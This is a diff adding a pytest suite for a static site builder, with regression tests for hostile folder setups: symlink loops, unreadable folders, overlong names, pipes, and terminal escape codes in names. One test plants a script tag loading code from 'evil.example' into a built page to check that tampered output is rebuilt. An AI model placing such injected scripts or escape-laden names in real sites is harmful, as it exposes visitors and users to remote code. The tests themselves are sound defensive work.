@@ -1,0 +1,246 @@
+"""Hostile folders met by an outside audit (session 33): links, odd entries and output folders, each a
+located `path:line:col: error:`, never a traceback nor a file read or written where it must not be."""
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+ARTICLE = "Officials say the two gangs are now allies.\n"
+LAYER = 'annotations:\n  - quote: "the two gangs"\n    note: Which gangs?\n'
+
+
+@pytest.fixture
+def site(tmp_path, make_site):
+    return make_site(tmp_path / "site", {"site.toml": 'title = "T"\nbase_url = "https://example.org/"\n',
+                                         "content/a.txt": ARTICLE, "annotations/a.yaml": LAYER})
+
+
+def test_a_link_in_templates_to_the_site_itself_is_one_error_at_the_link(site, run_cli):
+    """`templates/up -> ..` was walked as templates: the whole site read again under templates/up/ (every
+    problem of content/ said twice, the built pages loaded as templates), and the loop caught only one
+    level down, at templates/up/templates, "a link to ?" (which is no link)."""
+    assert run_cli("build", site)[0] == 0  # (built pages, to be read through the link)
+    (site / "templates").mkdir()
+    (site / "templates/up").symlink_to("..")
+    code, _, err = run_cli("check", site)
+    assert code == 1
+    assert [line for line in err.splitlines() if "templates/" in line] == [
+        'templates/up:1:1: error: is a link to "..", a folder that holds it: it would nest itself for ever (remove the link)']
+
+
+
+def test_a_cache_folder_that_cannot_be_looked_into_costs_only_time(site):
+    """`chmod 000 .glossator-cache` (or a cache left by another user): the build ended in a PermissionError
+    traceback from the cache's look at its own folder, and serve said "cannot serve on 127.0.0.1:8000:
+    Permission denied (choose a --host of this machine)". The cache is not used; the site is built, and served."""
+    from tests.test_hostile_setup import run_without_privilege
+
+    assert run_without_privilege("build", site).returncode == 0  # (the cache made)
+    (site / "content/a.txt").write_text(ARTICLE + "\nA second paragraph.\n")
+    (site / ".glossator-cache").chmod(0)
+    try:
+        done = run_without_privilege("build", site)
+        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+        assert "A second paragraph." in (site / "_site/articles/a/index.html").read_text()
+        served = subprocess.run(["timeout", "-s", "INT", "8", *without_privilege("serve", site, "--port", "0")],
+                                capture_output=True, text=True, timeout=60)
+        assert "serving " in served.stderr + served.stdout and "cannot serve" not in served.stderr, served.stderr
+    finally:
+        (site / ".glossator-cache").chmod(0o755)
+
+
+def without_privilege(*args) -> list[str]:
+    """The command line of `glossator ARGS` as a user whom file permissions bind (see run_without_privilege)."""
+    cmd = [sys.executable, "-m", "builder", *map(str, args)]
+    if os.geteuid() == 0:
+        if not shutil.which("setpriv"):
+            pytest.skip("running as root without setpriv: cannot make a folder unreadable")
+        cmd = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--", *cmd]
+    return cmd
+
+
+def test_a_folder_of_the_output_that_cannot_be_looked_into_is_refused_not_left_beside_it(site):
+    """`chmod 000 _site/articles`: the build swapped its new site in, then could not remove the old one, and
+    left `._site.new-xxxxxxxx` beside the output for good (unmarked: no later build tidied it), holding
+    whatever was in the folder it could not look into. It now refuses, at the output folder, changing nothing."""
+    from tests.test_hostile_setup import located, run_without_privilege
+
+    assert run_without_privilege("build", site).returncode == 0
+    (site / "content/a.txt").write_text(ARTICLE + "\nA second paragraph.\n")
+    (site / "_site/articles").chmod(0)
+    try:
+        for command in ("check", "build"):
+            done = run_without_privilege(command, site)
+            assert done.returncode == 1
+            located(done.stderr, "_site:1:1", "articles, which cannot be looked into")
+    finally:
+        (site / "_site/articles").chmod(0o755)
+    assert sorted(p.name for p in site.iterdir() if p.name.startswith("._site")) == []
+    assert run_without_privilege("build", site).returncode == 0
+    assert "A second paragraph." in (site / "_site/articles/a/index.html").read_text()
+
+
+def test_an_old_site_that_will_not_all_go_stays_marked_for_the_next_build_to_tidy(site, run_cli, monkeypatch):
+    """What `discard` cannot remove (a folder made read-only meanwhile, a file the system holds) was left
+    unmarked, so no build ever removed it; it stays marked as ours, and the next build removes it."""
+    from builder import output
+
+    assert run_cli("build", site)[0] == 0
+    (site / "content/a.txt").write_text(ARTICLE + "\nA second paragraph.\n")
+    with monkeypatch.context() as patched:
+        patched.setattr(output.shutil, "rmtree", lambda *a, **k: None)  # every folder stays
+        assert run_cli("build", site)[0] == 0
+    left = [p for p in site.iterdir() if p.name.startswith("._site.")]
+    assert len(left) == 1 and (left[0] / ".glossator-output").is_file()
+    (site / "content/a.txt").write_text(ARTICLE)
+    assert run_cli("build", site)[0] == 0
+    assert [p for p in site.iterdir() if p.name.startswith("._site.")] == []
+
+
+LONG = "x" * 300  # a name longer than any system takes (255 bytes)
+
+
+def test_an_output_name_too_long_in_site_toml_is_said_at_its_line(site, run_cli):
+    """A traceback (OSError: File name too long) from the look at the output folder, by check and build."""
+    (site / "site.toml").write_text(f'title = "T"\nbase_url = "https://example.org/"\noutput = "{LONG}"\n')
+    for command in ("check", "build"):
+        code, _, err = run_cli(command, site)
+        assert code == 1 and "Traceback" not in err
+        assert err.startswith('site.toml:3:1: error: output "xxx') and "name too long for a folder" in err, err
+
+
+def test_an_out_name_too_long_is_a_located_error(site, run_cli, tmp_path):
+    code, _, err = run_cli("build", site, "--out", tmp_path / LONG)
+    assert code == 1
+    assert err.startswith(str(tmp_path)) and "error: cannot write the site here: File name too long; nothing was written" in err
+    assert err.splitlines()[-1] == "build failed: 1 error(s); nothing was written"
+
+
+@pytest.mark.parametrize("command", [("check", "SITE"), ("build", "SITE"), ("reanchor", "SITE"),
+                                     ("new", "a", "--site", "SITE"), ("init", "SITE")])
+def test_a_site_folder_name_too_long_is_wrong_usage(tmp_path, run_cli, command):
+    code, _, err = run_cli(*(str(tmp_path / LONG) if arg == "SITE" else arg for arg in command))
+    assert code == 2 and "Traceback" not in err
+    assert "File name too long" in err, err
+
+
+def test_a_pipe_in_place_of_the_output_marker_never_hangs_check_or_build(site, run_cli):
+    """`mkfifo _site/.glossator-output`: check and build read the marker to learn what the last build wrote,
+    and waited for ever on the pipe. A marker that is not a plain file is no marker: the folder is refused."""
+    assert run_cli("build", site)[0] == 0
+    (site / "_site/.glossator-output").unlink()
+    os.mkfifo(site / "_site/.glossator-output")
+    for command in ("check", "build"):
+        done = subprocess.run([sys.executable, "-m", "builder", command, str(site)], capture_output=True, text=True,
+                              timeout=60)
+        assert done.returncode == 1, done.stderr
+        assert "_site:1:1: error: " in done.stderr and "not made by Glossator" in done.stderr
+    assert (site / "_site/index.html").is_file()
+
+
+def test_the_summary_line_is_one_line_whatever_the_out_folder_is_named(site, run_cli, tmp_path):
+    """`--out $'www\\n\\x1b[2J'`: the summary printed the name as it is, a line break (two lines for a log's
+    parser) and a terminal's escape obeyed; it is shown escaped, as problems are."""
+    for said in ("built", "unchanged"):
+        code, out, _ = run_cli("build", site, "--out", tmp_path / "www\n\x1b[2J")
+        assert code == 0 and out.startswith(said)
+        assert out.count("\n") == 1 and "\x1b" not in out and out.rstrip().endswith("www\\n\\x1b[2J" + (" is up to date" if said == "unchanged" else "")), out
+
+
+@pytest.mark.parametrize("mode, rel", [(0o000, "content"), (0o600, "content/a.txt")], ids=["000", "600"])
+def test_an_article_that_cannot_be_read_is_not_also_said_missing(site, rel, mode):
+    """`chmod 000 content`: besides "cannot list this folder", every annotation file was said to have "no
+    article in content/" (a second, wrong error per article, as if the user had deleted them)."""
+    from tests.test_hostile_setup import run_without_privilege
+
+    (site / "content").chmod(mode)  # (600: listed, but no file in it reached)
+    try:
+        done = run_without_privilege("check", site)
+    finally:
+        (site / "content").chmod(0o755)
+    assert done.returncode == 1
+    errors = [line for line in done.stderr.splitlines() if ": error: " in line]
+    assert len(errors) == 1 and errors[0].startswith(f"{rel}:1:1: error: "), done.stderr
+
+
+def test_new_for_an_article_that_is_a_pipe_says_so_once(site, run_cli):
+    """`glossator new b` where content/b.txt is a pipe: it said so, and also that there is "no article b"."""
+    os.mkfifo(site / "content/b.txt")
+    code, _, err = run_cli("new", "b", "--site", site)
+    assert code == 1
+    assert err.splitlines() == ["content/b.txt:1:1: error: is not a plain file or folder (a pipe, socket or device?): remove it"]
+    assert not (site / "annotations/b.yaml").exists()
+
+
+def test_init_says_where_the_new_site_is_in_one_line_whatever_its_name(tmp_path, run_cli):
+    code, out, _ = run_cli("init", tmp_path / "new\n\x1b[2Jsite")
+    assert code == 0
+    said = [line for line in out.splitlines() if line.startswith("a new site is in")]
+    assert len(said) == 1 and "\x1b" not in out and "new\\n\\x1b[2Jsite: try `glossator serve " in said[0], out
+
+
+def test_an_output_folder_that_is_a_source_folder_behind_a_link_is_refused(site, run_cli):
+    """`static -> assets-src` (a link inside the site, allowed) and `output = "assets-src"`: check said ok, and
+    the first build replaced the empty static folder by the built site, which every later build then
+    published inside itself. The folder a source link leads to is the site's own, as the link is."""
+    (site / "assets-src").mkdir()
+    (site / "static").symlink_to("assets-src")
+    (site / "site.toml").write_text('title = "T"\nbase_url = "https://example.org/"\noutput = "assets-src"\n')
+    for command in ("check", "build"):
+        code, _, err = run_cli(command, site)
+        assert code == 1
+        assert "assets-src:1:1: error: " in err and "is inside the site's static" in err, err
+    assert list((site / "assets-src").iterdir()) == []
+
+
+@pytest.mark.parametrize("name", ["99999999999999999999999", "0"])
+def test_serve_with_a_cache_folder_named_as_no_process_could_be(site, name):
+    """`.glossator-cache/serve/99999999999999999999999` (a cache that came with a downloaded site): serve asked
+    the system whether that process runs, and ended in an OverflowError traceback; `0` read as running for ever."""
+    from builder import cache
+
+    (site / ".glossator-cache/serve" / name).mkdir(parents=True)
+    folder = cache.serve_folder(site)
+    assert folder.is_dir() and folder.parent == site / ".glossator-cache/serve"
+    assert not (site / ".glossator-cache/serve" / name).exists()
+
+
+def test_init_over_an_unfinished_init_of_a_process_no_system_has(tmp_path, run_cli):
+    """The note an interrupted init leaves names its process: one naming a number no process can have was an
+    OverflowError traceback; it is an init that no longer runs, finished now."""
+    import socket
+
+    from builder.scaffold import UNFINISHED, UNFINISHED_TEXT
+
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site" / UNFINISHED).write_text(f"{UNFINISHED_TEXT}pid 99999999999999999999999 on {socket.gethostname()}\n")
+    code, _, err = run_cli("init", tmp_path / "site")
+    assert code == 0, err
+    assert (tmp_path / "site/site.toml").is_file() and not (tmp_path / "site" / UNFINISHED).exists()
+
+
+def test_a_build_record_that_came_with_a_downloaded_site_never_passes_its_output_as_up_to_date(site, run_cli, tmp_path):
+    """A site shared with its .glossator-cache and a _site built from other inputs (a page changed by hand,
+    the record written to match it: nothing in it was secret): `glossator build` said "unchanged" and left
+    that output published. Records are signed with the user's own secret, as the articles' entries are."""
+    import json
+
+    from builder.build import fingerprint
+    from builder.cache import BuildRecord, tree_digest
+
+    assert run_cli("build", site)[0] == 0
+    page = site / "_site/index.html"
+    page.write_text(page.read_text().replace("</body>", "<script src=https://evil.example/x.js></script></body>"))
+    record = BuildRecord(site, site / "_site")
+    planted = {"inputs": fingerprint(site, None), "counts": [1, 1, 0, 20], "output": tree_digest(site / "_site"),
+               "warnings": []}
+    record.path.write_text(json.dumps(planted))
+    code, out, _ = run_cli("build", site)
+    assert code == 0 and out.startswith("built "), out
+    assert "evil.example" not in page.read_text()
+    assert run_cli("build", site)[1].startswith("unchanged:")  # (its own record is trusted)
